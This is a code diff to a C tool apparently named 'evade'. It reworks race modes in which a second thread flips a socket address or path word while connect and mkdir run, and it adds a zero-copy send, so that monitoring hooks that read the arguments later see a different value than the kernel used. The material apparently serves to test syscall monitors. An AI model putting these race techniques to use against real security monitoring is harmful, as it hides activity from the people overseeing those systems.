@@ -47,42 +47,20 @@ static void *toggle_link(void *arg)
 	return NULL;
 }
 
-/* connect-race: another thread flips the destination between two
- * addresses while the main thread connects to it. */
+/* The races (connect-race, mkdir-race): another thread flips the word at
+ * AT between A and B while the main thread makes calls that read it. */
 struct flip {
-	struct sockaddr_in *to;
-	in_addr_t a, b;
+	volatile __u32 *at;
+	__u32 a, b;
 	volatile int stop;
 };
 
-static void *flip_address(void *arg)
+static void *flip_word(void *arg)
 {
 	struct flip *f = arg;
 
-	volatile in_addr_t *address = &f->to->sin_addr.s_addr;
-
-	/* Each address held for a while: the call copies one, and sys_exit
-	 * reads the other. */
-	for (unsigned long i = 0; !f->stop; i++) {
-		*address = i & 1 ? f->a : f->b;
-		for (volatile int spin = 0; spin < 500; spin++)
-			;
-	}
-	return NULL;
-}
-
-/* mkdir-race: another thread flips one byte of the path between two
- * directories while the main thread makes and removes a directory there. */
-struct path_flip {
-	volatile char *at;
-	char a, b;
-	volatile int stop;
-};
-
-static void *flip_path(void *arg)
-{
-	struct path_flip *f = arg;
-
+	/* Each value held for a while: the call copies one, and a later read
+	 * (sys_exit, or a hook) sees the other. */
 	for (unsigned long i = 0; !f->stop; i++) {
 		*f->at = i & 1 ? f->a : f->b;
 		for (volatile int spin = 0; spin < 500; spin++)
@@ -244,6 +222,13 @@ int main(int argc, char **argv)
 
 		if (connect(fd, (struct sockaddr *)&server, sizeof(server)))
 			return report("connect", -1);
+		if (argc > 5 && !strcmp(argv[5], "zerocopy")) {
+			/* Sent from pages the kernel reads after the call returns. */
+			int one = 1, n = dns_query(q, argv[4], 1);
+
+			setsockopt(fd, SOL_SOCKET, SO_ZEROCOPY, &one, sizeof(one));
+			return report("send", send(fd, q, n, MSG_ZEROCOPY));
+		}
 		if (argc > 5 && !strcmp(argv[5], "pwritev2")) {
 			struct iovec iov = { .iov_base = q, .iov_len = dns_query(q, argv[4], 1) };
 
@@ -388,8 +373,8 @@ int main(int argc, char **argv)
 		/* mkdir-race DIR_A DIR_B N: DIR_A/x made N times while another thread
 		 * flips the path to DIR_B/x (one byte apart); prints, per success,
 		 * where the directory was made, and removes it. */
-		char path[4096], made[2][4096];
-		struct path_flip f = { 0 };
+		char path[4096] __attribute__((aligned(4))), made[2][4096];
+		struct flip f = { 0 };
 		int n = atoi(argv[4]), at;
 		pthread_t thread;
 
@@ -397,11 +382,14 @@ int main(int argc, char **argv)
 			return fprintf(stderr, "usage: evade mkdir-race DIR_A DIR_B N (one byte apart)\n"), 2;
 		for (at = 0; a[at] == b[at]; at++)
 			;
-		snprintf(path, sizeof(path), "%s/x", a);
 		snprintf(made[0], sizeof(made[0]), "%s/x", a);
 		snprintf(made[1], sizeof(made[1]), "%s/x", b);
-		f.at = &path[at], f.a = a[at], f.b = b[at];
-		pthread_create(&thread, NULL, flip_path, &f);
+		at &= ~3; /* the word holding the byte that differs */
+		memcpy(&f.a, made[0] + at, 4);
+		memcpy(&f.b, made[1] + at, 4);
+		memcpy(path, made[0], sizeof(path));
+		f.at = (volatile __u32 *)(path + at);
+		pthread_create(&thread, NULL, flip_word, &f);
 		for (int i = 0; i < n; i++) {
 			if (mkdir(path, 0755))
 				continue;
@@ -453,7 +441,7 @@ int main(int argc, char **argv)
 		struct sockaddr_in to = inet(a, 0), other = inet(b, 0), peer;
 		socklen_t n = sizeof(to);
 		int la = socket(AF_INET, SOCK_STREAM, 0), lb = socket(AF_INET, SOCK_STREAM, 0);
-		struct flip f = { .to = &to, .a = to.sin_addr.s_addr, .b = other.sin_addr.s_addr };
+		struct flip f = { .at = &to.sin_addr.s_addr, .a = to.sin_addr.s_addr, .b = other.sin_addr.s_addr };
 		pthread_t thread;
 
 		if (bind(la, (struct sockaddr *)&to, sizeof(to)) || getsockname(la, (struct sockaddr *)&to, &n))
@@ -463,7 +451,7 @@ int main(int argc, char **argv)
 			return report("bind", -1);
 		fcntl(la, F_SETFL, O_NONBLOCK);
 		fcntl(lb, F_SETFL, O_NONBLOCK);
-		pthread_create(&thread, NULL, flip_address, &f);
+		pthread_create(&thread, NULL, flip_word, &f);
 		for (int i = 0, rounds = atoi(argv[4]); i < rounds; i++) {
 			int fd = socket(AF_INET, SOCK_STREAM, 0);
 
